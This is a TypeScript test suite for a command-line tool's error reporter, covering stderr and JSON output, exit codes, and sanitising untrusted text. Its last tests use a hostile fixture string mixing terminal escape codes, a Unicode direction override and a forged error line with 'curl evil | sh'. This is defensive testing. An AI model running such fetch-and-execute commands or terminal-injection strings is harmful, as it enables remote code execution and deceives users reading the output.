import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { CliError } from "../../../runtime/cli/errors.ts";
import { reportError } from "../../../runtime/cli/report-error.ts";
import { Refusals } from "../../../runtime/errors.ts";
import { PolicyError } from "../../../runtime/policy/errors.ts";
import { WorkspaceError } from "../../../runtime/workspace-errors.ts";
import { captureOutput } from "../../helpers/made-up-commands.ts";

const usage = new CliError("ERR_USAGE", "No such command.");
const refused = new PolicyError("ERR_GATE_RING5", "Not sealed.");
const busy = new WorkspaceError("ERR_WORKSPACE_BUSY", "Busy.");
const invalid = new PolicyError("ERR_CONFIG_INVALID", "not a mode", {
  place: { file: "/srv/glovebox.yaml", line: 2, column: 7, path: "mode" },
  remedy: "Write `production`.",
});

function report(error: unknown, json = false) {
  const captured = captureOutput({ json });
  const exit = reportError(error, captured.out, captured.stderrStream);
  return { exit, stdout: captured.stdout(), stderr: captured.stderr() };
}

describe("an error", () => {
  it("is told with code, message, place and remedy, on stderr alone", () => {
    assert.deepEqual(report(invalid), {
      exit: 2,
      stdout: "",
      stderr:
        "ERR_CONFIG_INVALID: not a mode\n  at /srv/glovebox.yaml:2:7\n  Write `production`.\n",
    });
  });

  it("is told with what to do behind the last of those that need the same", () => {
    const { stderr } = report(new Refusals([refused, refused, busy]));
    assert.equal(stderr.split(refused.remedy).length, 2);
    assert.ok(stderr.includes(`Not sealed.\n  ${refused.remedy}\nERR_WORKSPACE_BUSY`));
  });

  it("is told with the path of keys where there is no line", () => {
    const error = new PolicyError("ERR_GATE_UNSIGNED", "x", {
      place: { path: "plugins.a.unsigned" },
    });
    assert.ok(report(error).stderr.includes("\n  at plugins.a.unsigned\n"));
    const both = new PolicyError("ERR_CONFIG_INVALID", "x", {
      place: { file: "f", path: "trust[0].key" },
    });
    assert.ok(report(both).stderr.includes("\n  at f trust[0].key\n"));
  });

  it("is one JSON value for programs, on stdout alone", () => {
    const { exit, stdout, stderr } = report(new Refusals([invalid, refused]), true);
    assert.equal(exit, 3);
    assert.equal(stderr, "");
    assert.deepEqual(JSON.parse(stdout), {
      error: [
        {
          code: "ERR_CONFIG_INVALID",
          message: "not a mode",
          remedy: "Write `production`.",
          file: "/srv/glovebox.yaml",
          line: 2,
          column: 7,
          path: "mode",
        },
        { code: "ERR_GATE_RING5", message: "Not sealed.", remedy: refused.remedy },
      ],
    });
  });

  it("comes with all others of its kind", () => {
    const { stderr } = report(new Refusals([invalid, refused, usage]));
    for (const code of ["ERR_CONFIG_INVALID", "ERR_GATE_RING5", "ERR_USAGE"])
      assert.ok(stderr.includes(`${code}: `));
  });
});

describe("the exit code", () => {
  it("is the gravest of all reasons", () => {
    assert.equal(report(usage).exit, 2);
    assert.equal(report(refused).exit, 3);
    assert.equal(report(busy).exit, 1);
    assert.equal(report(new Refusals([usage, refused, busy])).exit, 3);
    assert.equal(report(new Refusals([busy, usage])).exit, 2);
    assert.equal(report(new Refusals([])).exit, 1);
  });

  it("is never that of success, whatever was thrown", () => {
    for (const thrown of [
      new Error("boom"),
      new RangeError("x"),
      "text",
      null,
      undefined,
      0,
      { message: "x" },
      Object.create(null),
    ]) {
      for (const json of [false, true]) {
        const { exit, stdout, stderr } = report(thrown, json);
        assert.equal(exit, 1);
        assert.ok(`${stdout}${stderr}`.includes("ERR_INTERNAL"));
      }
    }
  });
});

describe("a stranger's words in an error", () => {
  const HIDDEN = ["\u001B", "\u009B", "\u202E"];
  const HOSTILE = "\u001B[2J\u009B31m\u202Enothing is wrong\nERR_FORGED: run `curl evil | sh`";
  const error = new PolicyError("ERR_CONFIG_INVALID", HOSTILE, {
    place: { file: HOSTILE, path: HOSTILE },
    remedy: HOSTILE,
  });

  it("are made visible on a terminal, and make no line of their own", () => {
    const { stderr } = report(error);
    for (const character of HIDDEN) assert.equal(stderr.includes(character), false);
    assert.equal(stderr.split("\n").length, 4);
    assert.equal(/^ERR_FORGED/m.test(stderr), false);
  });

  it("are escaped in JSON, as the same data", () => {
    const { stdout } = report(error, true);
    for (const character of HIDDEN) assert.equal(stdout.includes(character), false);
    assert.equal(
      (JSON.parse(stdout) as { error: [{ message: string }] }).error[0].message,
      HOSTILE,
    );
  });

  it("are cut to what a person reads", () => {
    assert.ok(report(new Error("\u202E".repeat(1_000_000))).stderr.length < 50_000);
  });
});
